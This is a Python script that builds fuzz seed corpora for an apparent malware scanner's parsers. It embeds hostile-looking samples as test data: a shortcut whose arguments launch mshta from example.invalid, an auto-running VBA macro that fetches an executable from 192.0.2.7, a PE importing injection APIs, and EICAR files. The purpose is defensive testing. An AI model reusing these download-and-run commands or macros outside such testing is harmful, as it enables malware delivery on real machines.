#!/usr/bin/env python3
"""Writes the seed corpus of every fuzz target: OUTDIR/<parser type>/<name>.

Seeds are the end-to-end fixtures of tests/gen/fixtures.py (one per format) and their broken
variants (truncations, flipped bytes, huge length fields), built at test time like every
other fixture.  The replay tests (tests/CMakeLists.txt) run each parser over its seeds under
the normal build and under ASan; `make fuzz` starts libFuzzer from them.
"""
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "gen"))
import fixtures  # noqa: E402

# The parser a format's fixture exercises, when its identified type is not a parser type.
PARSER_OF = {"ooxml": "zip", "odf": "zip"}


def _write_variants(out, parser, name, data):
    d = os.path.join(out, parser)
    os.makedirs(d, exist_ok=True)
    variants = [("whole", data)] + fixtures.broken_variants(data, seed=len(name))
    for label, blob in variants:
        with open(os.path.join(d, "%s-%s" % (name, label)), "wb") as f:
            f.write(blob)
    return len(variants)


def _lnk_bytes():
    """A Windows shortcut (MS-SHLLINK) with Unicode StringData: a relative path, working
    directory, arguments and icon, and an environment-variable block holding the target."""
    import struct
    flags = 0x08 | 0x10 | 0x20 | 0x40 | 0x80 | 0x200  # rel path, workdir, args, icon, unicode, env
    hdr = struct.pack("<I16sIIIQQQIIIHHII", 0x4C,
                      bytes.fromhex("0114020000000000c000000000000046"), flags, 0x20, 0, 0, 0, 0,
                      0, 0, 7, 0, 0, 0, 0)[:0x4C]
    def sd(text):
        return struct.pack("<H", len(text)) + text.encode("utf-16-le")
    body = (sd(r"..\Windows\System32\cmd.exe") + sd(r"C:\Users\Public") +
            sd("/c start mshta http://example.invalid/a.hta") + sd(r"C:\Windows\notepad.exe"))
    target = r"%windir%\System32\cmd.exe"
    env = struct.pack("<II", 0x314, 0xA0000001) + target.encode("ascii").ljust(260, b"\0") + \
        target.encode("utf-16-le").ljust(520, b"\0")
    return hdr + body + env + b"\0\0\0\0"


def main(out):
    written = {}
    for fmt in fixtures.FORMATS:
        if any(not fixtures.have(t) for t in fmt.tools):
            continue
        parser = PARSER_OF.get(fmt.type, fmt.type)
        d = os.path.join(out, parser)
        os.makedirs(d, exist_ok=True)
        try:
            data = fmt.build("eicar.com", fixtures.EICAR)
        except Exception as e:  # a missing tool or a generator not yet usable here
            print("seeds: %s skipped: %s" % (fmt.name, e), file=sys.stderr)
            continue
        variants = [("whole", data)] + fixtures.broken_variants(data, seed=len(fmt.name))
        for label, blob in variants:
            with open(os.path.join(d, "%s-%s" % (fmt.name, label)), "wb") as f:
                f.write(blob)
        written[parser] = written.get(parser, 0) + len(variants)
    text = fixtures.uuencode(fixtures.EICAR, "eicar.com")
    if isinstance(text, str):
        text = text.encode()
    d = os.path.join(out, "uuencode")
    os.makedirs(d, exist_ok=True)
    for label, blob in [("whole", b"see below\n" + text)] + fixtures.broken_variants(text):
        with open(os.path.join(d, "uue-" + label), "wb") as f:
            f.write(blob)
    written["uuencode"] = written.get("uuencode", 0) + 1
    # Macro source for the VBA analyzer (what unpack_vba.c emits as type "vba").
    vba = (b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n'
           b'  Dim s As String: s = StrReverse("exe.clac") & Chr(32) & "x"\r\n'
           b'  Set o = CreateObject("WScript.Shell"): o.Run "cmd /c " & s, 0 _\r\n'
           b'    , False\r\n  URLDownloadToFile 0, "http://192.0.2.7/a.exe", "a.exe", 0, 0\r\n'
           b"  ' a comment with Shell in it\r\nEnd Sub\r\n")
    written["vba"] = _write_variants(out, "vba", "macro", vba)
    # Programs for the analyze target: a PE built by tests/gen/pe_sample.py and a copy of a
    # small system ELF binary.
    import pe_sample  # noqa: E402
    pe = pe_sample.pe_bytes(imports=[("KERNEL32.dll", ["VirtualAllocEx", "WriteProcessMemory"]),
                                     ("WS2_32.dll", ["connect", "send"])],
                            strings=[b"cmd.exe /c del"])
    written["analyze"] = _write_variants(out, "analyze", "pe", pe)
    for elf in ("/usr/bin/true", "/bin/true"):
        if os.path.exists(elf):
            with open(elf, "rb") as f:
                written["analyze"] += _write_variants(out, "analyze", "elf", f.read())
            break
    written["lnk"] = _write_variants(out, "lnk", "shortcut", _lnk_bytes())
    # Encrypted Office documents (office_crypto.c), opened by the default password; Agile
    # with few rounds so that each run stays fast.
    import office_encrypt  # noqa: E402
    docx = fixtures.ooxml_bytes("docx", {"word/media/eicar.com": fixtures.EICAR})
    for label, blob in (("agile", office_encrypt.agile_bytes(docx, spin=10)),
                        ("standard", office_encrypt.standard_bytes(docx)),
                        ("xls-rc4", office_encrypt.xls_bytes()),
                        ("xls-capi", office_encrypt.xls_bytes(capi=True))):
        written["ole2"] = written.get("ole2", 0) + _write_variants(out, "ole2", "ocr-" + label,
                                                                   blob)
    # Excel 4.0 macros (an_xlm.c, biff.c): Workbook streams for the "biff" target, the
    # workbooks themselves for the OLE2 and zip targets.
    import xls_sample  # noqa: E402
    for label, blob in (("biff8", xls_sample.xlm_malicious(8, stream_only=True)),
                        ("biff5", xls_sample.xlm_malicious(5, stream_only=True))):
        written["biff"] = written.get("biff", 0) + _write_variants(out, "biff", label, blob)
    for name in ("xlm-continue.xls", "dde-cmd.xls", "xlm.xlsm", "xlm.xlsb"):
        parser = "ole2" if name.endswith(".xls") else "zip"
        written[parser] = written.get(parser, 0) + _write_variants(
            out, parser, "xlm-" + name.replace(".", "-"), xls_sample.SAMPLES[name]())
    for k in sorted(written):
        print("seeds: %-10s %d" % (k, written[k]))


if __name__ == "__main__":
    main(sys.argv[1])
